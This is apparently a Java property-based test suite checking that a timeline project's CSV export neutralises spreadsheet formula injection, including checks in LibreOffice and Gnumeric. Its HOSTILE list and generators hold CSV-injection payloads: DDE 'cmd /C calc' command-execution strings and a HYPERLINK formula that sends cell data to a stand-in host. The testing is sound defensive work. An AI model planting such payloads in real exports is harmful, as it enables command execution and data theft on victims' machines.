package org.usiraq.timeline.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.GZIPInputStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.usiraq.timeline.json.TimelineJson;
import org.usiraq.timeline.model.Texts;
import org.usiraq.timeline.model.Timeline;
import org.usiraq.timeline.testing.Timelines;
import org.usiraq.timeline.validate.Draft;
import org.usiraq.timeline.validate.Findings;

/** Whatever a curator or an import puts into a text, no spreadsheet takes it for a formula. */
class FormulaTest {
  private static final List<String> SHEETS = List.of("events", "actors", "statistics", "sources");

  /** Every field that holds a text for people, wherever it stands. */
  private static final Pattern TEXT =
      Pattern.compile(
          "\"(title|summary|note|name|description|text|publisher|locator|wording|value|derived_from)\":"
              + " \"(?!small)(?:[^\"\\\\]|\\\\.)*\"");

  private static final Pattern AUTHORS = Pattern.compile("(\"authors\": \\[\\s*)\"[^\"]*\"");

  private static final List<String> HOSTILE =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1,1)",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://x.example?\"&A1,\"click\")",
          "=\"x\"",
          "\"=1+1",
          "\"=1+1\"",
          "'=1+1",
          " =1+1",
          "\u00a0=1+1",
          "\u3000＝1+1",
          "＝1+1",
          "＋1+1",
          "－1+1",
          "＠SUM(1,1)",
          "x\"; =1+1",
          "x\",=1+1",
          "x; =1+1",
          "-2+3+cmd|' /C calc'!A0",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "#REF!",
          "=-1",
          "{=1+1}");

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<String> start =
        Arbitraries.of("", " ", "  ", "\u00a0", "\u2003", "\"", "'", "\"\"", "; ");
    Arbitrary<String> sign =
        Arbitraries.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "=\"", "#", "|", "%", "=cmd|");
    Arbitrary<String> body =
        Arbitraries.strings().withChars("1A=+-@\"';,|!()&: /＝".toCharArray()).ofMaxLength(12);
    return Arbitraries.oneOf(
        Arbitraries.of(HOSTILE), Combinators.combine(start, sign, body).as((a, b, c) -> a + b + c));
  }

  /** What no record can hold need not be told apart. */
  @Test
  void controlCharactersAreNoText() {
    for (String text : List.of("\t=1", "\r=1", "\n=1", "=1\r\n=2", "\u0000=1")) {
      assertTrue(Texts.problem(text).isPresent());
    }
  }

  @Property(tries = 200)
  void noCellStartsFormula(@ForAll("texts") String text) throws IOException {
    Path folder = Files.createTempDirectory("sheets");
    Spreadsheet.write(full(text), folder);
    for (String sheet : SHEETS) {
      Path file = folder.resolve(sheet + ".csv");
      try (CSVParser parser = CSVParser.parse(file, StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
        for (CSVRecord row : parser) {
          row.forEach(cell -> assertFalse(isDangerous(cell), () -> sheet + ": " + cell));
        }
      }
      Files.delete(file);
    }
    Files.delete(folder);
  }

  /** Where {@code csv/} holds texts as they are, validation refuses those. */
  @Property(tries = 200)
  void validationRefuses(@ForAll("texts") String text) throws IOException {
    Findings findings = new Findings();
    TimelineJson.read(new ByteArrayInputStream(json(text)), "f", findings);
    assertTrue(findings.hasErrors() || !isDangerous(text), text);
  }

  private static boolean isDangerous(String cell) {
    String seen = cell.replaceFirst("^[\\s\\p{Z}\\p{Cf}]+", "");
    return !seen.isEmpty()
        && "=+-@＝＋－＠\t\r".indexOf(seen.charAt(0)) >= 0
        && !cell.matches("-?[0-9]+(\\.[0-9]+)?");
  }

  /** The small timeline with a text in place of each. */
  private static byte[] json(String text) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    TimelineJson.write(Timelines.small(), out, true);
    String quoted = '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
    String json = out.toString(StandardCharsets.UTF_8);
    String texts =
        TEXT.matcher(json)
            .replaceAll(hit -> Matcher.quoteReplacement('"' + hit.group(1) + "\": " + quoted));
    return AUTHORS
        .matcher(texts)
        .replaceAll(hit -> Matcher.quoteReplacement(hit.group(1) + quoted))
        .getBytes(StandardCharsets.UTF_8);
  }

  private static Timeline full(String text) throws IOException {
    Findings findings = new Findings();
    Draft draft = TimelineJson.read(new ByteArrayInputStream(json(text)), "f", findings);
    return draft.toTimeline("f", new Findings()); // It is not valid, but a program may make it.
  }

  /** What real programs make of the sheets. */
  @Test
  @Tag("slow")
  void programsFindNoFormula(@TempDir Path folder) throws Exception {
    List<String> with = new ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      Path sheets = folder.resolve("sheets" + i);
      Spreadsheet.write(full(HOSTILE.get(i)), sheets);
      for (String sheet : SHEETS) {
        Files.move(sheets.resolve(sheet + ".csv"), folder.resolve(sheet + i + ".csv"));
      }
    }
    Files.writeString(folder.resolve("control.csv"), "=1+1\r\n");
    // With formulas on, as a double click has them.
    run(
        folder,
        "soffice --headless -env:UserInstallation=file://"
            + folder
            + "/profile"
            + " --infilter=CSV:44,34,76,1,,0,false,true,false,false,false --convert-to fods *.csv");
    run(
        folder,
        "for f in *.csv; do ssconvert -T Gnumeric_XmlIO:sax $f ${f%.csv}.gnumeric || exit 1; done");
    for (File file : folder.toFile().listFiles()) {
      String name = file.getName();
      if (name.endsWith(".fods")) {
        String text = Files.readString(file.toPath());
        if (text.contains("table:formula=")) {
          with.add(name);
        }
      } else if (name.endsWith(".gnumeric")) {
        String text = new String(unzipped(file.toPath()), StandardCharsets.UTF_8);
        // A formula is a cell without a type of value, or one of its own.
        if (Pattern.compile("<gnm:Cell (?![^>]*ValueType)[^>]*>[=+@-]").matcher(text).find()
            || text.contains("ExprID")) {
          with.add(name);
        }
      }
    }
    with.sort(null);
    assertEquals(List.of("control.fods", "control.gnumeric"), with);
    assertEquals(
        2 * (4 * HOSTILE.size() + 1),
        folder.toFile().listFiles((f, n) -> n.matches(".*(fods|gnumeric)")).length);
  }

  private static byte[] unzipped(Path file) throws IOException {
    try (GZIPInputStream in = new GZIPInputStream(Files.newInputStream(file))) {
      return in.readAllBytes();
    }
  }

  private static void run(Path folder, String script) throws Exception {
    Path log = folder.resolve("log");
    Process process =
        new ProcessBuilder("bash", "-c", script)
            .directory(folder.toFile())
            .redirectErrorStream(true)
            .redirectOutput(log.toFile())
            .start();
    assertTrue(process.waitFor(8, TimeUnit.MINUTES), script);
    assumeTrue(process.exitValue() != 127, "not installed: " + script);
    assertEquals(0, process.exitValue(), Files.readString(log));
  }
}
